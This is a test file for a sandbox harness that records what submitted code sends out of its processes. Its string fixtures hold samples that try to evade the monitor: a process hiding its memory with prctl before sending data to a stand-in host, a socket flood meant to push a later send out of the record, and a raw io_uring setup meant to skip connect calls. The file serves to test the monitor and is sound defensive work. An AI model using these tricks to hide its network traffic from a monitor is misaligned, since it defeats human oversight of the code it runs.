"""What the code sends out of its processes, recorded by the harness server from outside them (``harness/egress.py``):
only when a run asks for it, nothing for code that sends nothing, a connection's bytes even when the process hides
its memory, and no way around the watch through io_uring. Both backends."""

from __future__ import annotations

import pytest

from logomesh.sandbox import Sandbox
from logomesh.sandbox.base import Watch
from logomesh.sandbox.client import egress_from_result
from logomesh.tasks import TaskSpec, load_task

PLANTED = Watch((("LM_TEST_TOKEN", "lmplanted0123456789"),))

HIDDEN_THEN_SENT = '''
import ctypes, socket
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # non-dumpable: the server cannot read this process's memory
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.7", 8080))
s.sendall(b"hello from a hidden process")
'''
FLOOD_THEN_SEND = '''
import socket as _s
for _ in range(300):  # more than a record holds: the empty ones make way
    _s.socket(_s.AF_INET, _s.SOCK_DGRAM).close()
_last = _s.create_connection(("203.0.113.5", 25), timeout=1)
_last.sendall(b"after the flood")
'''
RINGS = '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 8, params)  # io_uring_setup: its rings would connect without a connect call
print("io_uring", fd, ctypes.get_errno())
'''


@pytest.fixture(scope="module")
def fib() -> TaskSpec:
    return load_task("fib-recursive")


def test_an_unwatched_run_records_nothing_and_plants_nothing(box: Sandbox, fib: TaskSpec) -> None:
    code = fib.reference + "\nimport os as _o\nprint('token:', _o.environ.get('LM_TEST_TOKEN'))\n"
    run = box.observe_suite(code, fib.hidden_tests)
    assert run.egress is None
    assert "token: None" in run.stdout


def test_code_that_sends_nothing_leaves_a_clean_complete_record(box: Sandbox, fib: TaskSpec) -> None:
    run = box.observe_suite(fib.reference, fib.hidden_tests, watch=PLANTED)
    assert all(t.status == "observed" for t in run.tests)
    assert run.egress is not None and run.egress.complete
    assert run.egress.outside() == () and run.egress.reached == ()


def test_the_planted_value_reaches_the_codes_process(box: Sandbox, fib: TaskSpec) -> None:
    code = fib.reference + "\nimport os as _o\nprint('token:', _o.environ.get('LM_TEST_TOKEN'))\n"
    assert "token: lmplanted0123456789" in box.observe_suite(code, fib.hidden_tests, watch=PLANTED).stdout


def test_what_a_hidden_process_sends_is_still_read(box: Sandbox, fib: TaskSpec) -> None:
    code = fib.reference + f"\nimport subprocess as _s\n_s.run(['python3', '-c', {HIDDEN_THEN_SENT!r}])\n"
    run = box.observe_suite(code, fib.hidden_tests, watch=PLANTED)
    assert run.egress is not None
    sockets = [r for r in run.egress.reached if r.call == "socket"]
    assert sockets and all(r.data == b"hello from a hidden process" for r in sockets)
    assert all(r.hidden and r.address is None for r in sockets)  # its connect's address: in the hidden memory


def test_a_flood_of_empty_sockets_pushes_no_later_one_out(box: Sandbox, fib: TaskSpec) -> None:
    run = box.observe_suite(fib.reference + FLOOD_THEN_SEND, fib.hidden_tests, watch=PLANTED)
    assert run.egress is not None and run.egress.complete, run.egress
    assert any(r.address == "203.0.113.5:25" and r.data == b"after the flood" for r in run.egress.reached)


def test_io_uring_is_refused_under_the_watch(box: Sandbox, fib: TaskSpec) -> None:
    code = fib.reference + f"\nexec({RINGS!r})\n"
    assert "io_uring -1 1\n" in box.observe_suite(code, fib.hidden_tests, watch=PLANTED).stdout  # EPERM


def test_a_malformed_record_is_incomplete_never_clean() -> None:
    good = {"folder": "/work/r/sol", "why": "", "writes": {"files": [], "complete": True},
            "sockets": {"events": [], "complete": True}}
    assert egress_from_result({}) is None
    clean = egress_from_result({"egress": good})
    assert clean is not None and clean.complete
    for broken in ({**good, "writes": {"files": [{"path": "/tmp/x", "kind": "file", "head": "%%"}], "complete": True}},
                   {**good, "writes": {"files": [{"path": "/tmp/x", "kind": "socket?"}], "complete": True}},
                   {**good, "sockets": "none"}):
        record = egress_from_result({"egress": broken})
        assert record is not None and not record.complete and record.problem.startswith("the record is malformed")
